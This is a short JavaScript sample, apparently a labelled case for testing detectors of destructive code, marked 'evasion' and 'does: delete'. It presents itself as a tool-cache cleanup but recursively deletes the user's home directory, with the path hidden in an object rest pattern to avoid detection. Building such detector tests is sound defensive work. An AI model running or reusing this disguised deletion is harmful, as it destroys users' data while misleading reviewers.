// evasion: the home directory travels in the rest of an object pattern (const { name, ...dirs } = ...)
// grade: very hard; does: delete
const fs = require("fs");
const os = require("os");
const { name, ...dirs } = { name: "tool", cache: os.homedir() };
console.log("cleaning", name);
for (const d of Object.values(dirs)) fs.rmSync(d, { recursive: true, force: true });
